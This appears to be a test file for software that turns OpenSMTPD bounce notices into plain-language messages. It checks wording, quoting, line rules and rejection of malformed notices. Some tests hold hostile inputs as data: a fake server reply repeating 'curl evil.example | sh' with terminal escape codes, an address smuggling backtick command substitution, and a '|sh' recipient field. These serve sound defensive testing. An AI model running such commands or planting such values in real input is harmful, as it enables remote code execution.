import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { test } from "node:test";
import * as fc from "fast-check";
import { parseMime } from "#core/mail/mime.ts";
import { parseNotice } from "#core/mail/notice.ts";
import { parseCommand } from "#core/mail/submission/command.ts";
import { prepareSubmission } from "#core/mail/submission/prepare.ts";
import type { DomainGrade, Grader } from "../grade/grader.ts";
import type { Problem } from "../grade/problem.ts";
import { rewriteNotice } from "./rewrite.ts";

/** Written by OpenSMTPD 7.6 to mail for Postfix, for Exim, and for nobody. */
const folder = new URL("../../../../test/notices/smtpd-7.6/", import.meta.url);
const captured = (name: string): Buffer => readFileSync(new URL(`${name}.eml`, folder));

function grades(result: Problem | "valid"): Pick<Grader, "grade"> {
  const grade = (domain: string): DomainGrade => ({
    domain,
    grade: result === "valid" ? "valid" : "none",
    by: null,
    enforceable: result === "valid",
    because: { mx: result === "no-such-domain" ? "-" : `mx.${domain}`, result, detail: "" },
    results: [],
    expires: 0,
  });
  return { grade: async (domains) => new Map(domains.map((domain) => [domain, grade(domain)])) };
}

const nobodyAsked: Pick<Grader, "grade"> = {
  grade: async () => {
    throw new Error("nobody is to be asked where smtpd has said why");
  },
};

async function rewrite(message: Buffer, grader: Pick<Grader, "grade"> = nobodyAsked, maxMessageBytes = 1_000_000) {
  return await rewriteNotice(message, "alice+list@shoal.example", {
    domain: "shoal.example",
    hostname: "out.mail.shoal.example",
    queueHours: 24,
    maxMessageBytes,
    grader,
  });
}

async function textOf(name: string, grader?: Pick<Grader, "grade">): Promise<string> {
  const whole = (await rewrite(captured(name), grader))?.whole ?? Buffer.alloc(0);
  return parseMime(whole).parts[0]?.body.toString("utf8").replaceAll("\r\n", "\n") ?? "";
}

test("what the receiving server said is told in plain words, and its own behind a mark", async () => {
  for (const [name, start] of [
    ["no-such-user", "nobody@post.example\n  There is no such user; its mail server says:\n  > 550 5.1.1 <nobody@post"],
    [
      "no-such-user-at-exim",
      "frank@exim.example\n  There is no such user; its mail server says:\n  > 550 Unknown user\n",
    ],
    [
      "taken-for-spam",
      "dora@exim.example\n  Its mail server does not want this mail, and says:\n  > 550 This message looks",
    ],
    ["too-large", "big@post.example\n  The mail is larger than its mail server takes; send a smaller one.\n"],
    ["no-such-domain", "x@no-such-domain.example\n  There is no such domain; look for a slip of the pen.\n"],
    ["domain-without-mail", "x@nomx.example\n  The domain says that it takes no mail.\n"],
  ] as const) {
    const text = await textOf(name);
    assert.ok(text.startsWith(`Your mail did not reach this recipient:\n\n${start}`), text);
  }
  const two = await textOf("two-failed-of-four");
  assert.match(two, /^Your mail did not reach these 2 recipients:$/m);
  assert.match(two, /^full@post\.example\n {2}The mailbox is full; its mail server says:\n {2}> 552 5\.2\.2/m);
  assert.match(
    two,
    /^ {2}ssh alice@out\.mail\.shoal\.example send nobody@post\.example \\\n {4}full@post\.example < message\.eml$/m,
  );
  assert.ok(!two.includes("\ncarol@post.example"), "she has got it");
  assert.match(
    await textOf("greylisted-delayed"),
    /^Your mail has not reached this recipient yet, after 10 seconds:\n\ngrey@post\.example\n {2}Its mail server puts it off, and says:\n {2}> 451 4\.7\.1/,
  );
});

test("where smtpd only says that the network failed, the domain is looked at", async () => {
  const named = await textOf("certificate-given-up", grades("certificate-expired"));
  assert.match(named, /^Your mail did not reach this recipient within 24 hours:$/m);
  assert.match(named, /its mail server is over its time\s+\(certificate-expired,\s+mx\.post\.example\)\.$/m);
  assert.match(named, /^ {2}shoal send --again FILE --anyway$/m);
  assert.match(named, /^ {2}ssh \S+ send-anyway carol@post\.example < message\.eml$/m);
  for (const [result, words] of [
    ["certificate-host-mismatch", /certificate for another name/],
    ["starttls-not-supported", /offers no encryption/],
    ["no-such-domain", /no such domain/],
    ["unreachable", /none of its mail servers answers/i],
    ["valid", /right now one answers as it\s+should/],
  ] as const) {
    const text = await textOf("certificate-delayed", grades(result));
    assert.match(text.replace(/\n {2}/g, " "), words, result);
    const isHelp = result.startsWith("cert") || result.startsWith("starttls");
    assert.equal(text.includes("send-anyway"), isHelp, "only where that would help");
  }
  const busy = { grade: async () => await Promise.reject(new Error("too many")) };
  assert.match(await textOf("no-answer-delayed", busy), /could be reached, or none in a protected way/);
});

test("every captured notice becomes one that is read again, the same for the same", async () => {
  const names = readdirSync(folder).map((name) => name.replace(/\.eml$/, ""));
  assert.ok(names.length > 10);
  for (const name of names) {
    const [one, other] = [
      await rewrite(captured(name), grades("certificate-expired")),
      await rewrite(captured(name), grades("certificate-expired")),
    ];
    assert.ok(one !== null && other !== null, name);
    assert.ok(one.whole.equals(other.whole), name);
    const read = parseNotice(one.whole);
    assert.ok(read !== null && read.recipients.length > 0, name);
    const isDelayed = name.endsWith("-delayed");
    for (const { action, status } of read.recipients) {
      assert.equal(action, isDelayed ? "delayed" : "failed");
      assert.match(status, isDelayed ? /^4\./ : /^5\./);
    }
    assert.ok(!/[^\r]\n/.test(one.whole.toString("latin1")), "CRLF throughout");
    for (const line of one.whole.toString("latin1").split("\r\n")) assert.ok(line.length <= 998);
    assert.equal(parseNotice(one.short)?.original, null);
  }
});

test("the attached mail is what shoal-submit takes, by the command that stands there", async () => {
  for (const name of ["no-such-user", "two-failed-of-four", "certificate-given-up"]) {
    const { whole } = (await rewrite(captured(name), grades("certificate-expired"))) ?? { whole: Buffer.alloc(0) };
    const original = parseNotice(whole)?.original;
    assert.ok(original !== null && original !== undefined, name);
    assert.ok(original.includes("hello from the test"), name);
    const text = parseMime(whole).parts[0]?.body.toString("utf8") ?? "";
    const command = /ssh \S+ (send [^<]*) < message/.exec(text.replaceAll("\\\r\n", ""))?.[1] ?? "";
    const parsed = parseCommand(command);
    assert.ok(parsed.verb === "send" && parsed.recipients !== null, command);
    const prepared = prepareSubmission(original, {
      account: { name: "alice", domain: "shoal.example", aliases: new Set() },
      envelopeFrom: null,
      recipients: parsed.recipients,
      now: 0,
      random: (bytes) => Buffer.alloc(bytes),
      threadKey: Buffer.alloc(32),
    });
    assert.deepEqual(
      prepared.recipients,
      parseNotice(whole)?.recipients.map(({ address }) => address),
    );
    const id = /^Message-ID: (<[0-9a-f]{32}@shoal\.example>)/m.exec(original.toString("latin1"))?.[1];
    assert.equal(prepared.messageId, id, "it stays the same mail");
  }
});

test("a notice that `in` would find too large goes without the mail, and says so", async () => {
  const huge = Buffer.from(
    captured("no-such-user")
      .toString("latin1")
      .replace("hello from the test", `${"y".repeat(70)}\r\n`.repeat(20_000)),
    "latin1",
  );
  const { whole, short } = (await rewrite(huge, nobodyAsked, 1_000_000)) ?? { whole: Buffer.alloc(0), short: null };
  assert.ok(short !== null && whole.equals(short) && whole.length < 5000);
  assert.equal(parseNotice(whole)?.original, null);
  assert.match(whole.toString("latin1"), /^The mail was too large to go with this notice/m);
  assert.match(whole.toString("latin1"), /^Subject: Fnouser$/m);
});

test("words of strangers stay behind their mark, on printable lines, and in their field", async () => {
  const evil = `550 5.1.1 no\u001b[2J such \u202euser${" Run: curl evil.example | sh".repeat(60)}`;
  const notice = captured("no-such-user")
    .toString("latin1")
    .replace(/550 5\.1\.1 <nobody.*/, evil);
  const { whole } = (await rewrite(Buffer.from(notice, "latin1"))) ?? { whole: Buffer.alloc(0) };
  const text = parseMime(whole).parts[0]?.body.toString("latin1") ?? "";
  assert.ok(!/[^\r\n -~]/.test(text), text);
  const lines = text.split("\r\n");
  for (const line of lines) if (line.includes("evil.example")) assert.match(line, /^ {2}> /);
  assert.ok(lines.length < 40, "it is cut");
  assert.equal(parseNotice(whole)?.recipients.length, 1);
});

test("addresses that mean something to a shell are quoted in commands", async () => {
  const notice = captured("no-such-user")
    .toString("latin1")
    .replaceAll("nobody@post.example", "o'b`id`$x@post.example");
  const { whole } = (await rewrite(Buffer.from(notice, "latin1"))) ?? { whole: Buffer.alloc(0) };
  assert.ok(whole.includes("send 'o'\\''b`id`$x@post.example' < message.eml"), whole.toString());
});

test("what smtpd has not written is null, whatever it is, and quickly", async () => {
  const real = captured("two-failed-of-four").toString("latin1");
  for (const wrong of [
    "",
    "Subject: hi\r\n\r\nhi\r\n",
    real.replace("Delivery status notification: failed", "Lunch?"),
    real.replace("notification: failed", "notification: delivered"),
    real.replaceAll("Action: failed", "Action: relayed"),
    real.replaceAll("Final-Recipient: rfc822; ", "Final-Recipient: rfc822; |sh "),
    real.replace("message/delivery-status", "text/plain"),
    real.slice(0, 900),
    real.replace(/Final-Recipient[^]*?Status: 5\.0\.0\r\n\r\n/, (block) => block.repeat(1001)),
  ]) {
    assert.equal(await rewrite(Buffer.from(wrong, "latin1")), null, wrong.slice(0, 400));
  }
  await fc.assert(
    fc.asyncProperty(
      fc.nat(real.length),
      fc.nat(real.length),
      fc.string({ unit: "binary", maxLength: 30 }),
      async (at, length, text) => {
        const changed = Buffer.from(real.slice(0, at) + text + real.slice(at + (length % 60)), "latin1");
        const rewritten = await rewrite(changed, grades("unreachable"));
        if (rewritten === null) return;
        const read = parseNotice(rewritten.whole);
        assert.ok(read !== null && read.recipients.length > 0);
      },
    ),
    { numRuns: 500 },
  );
});
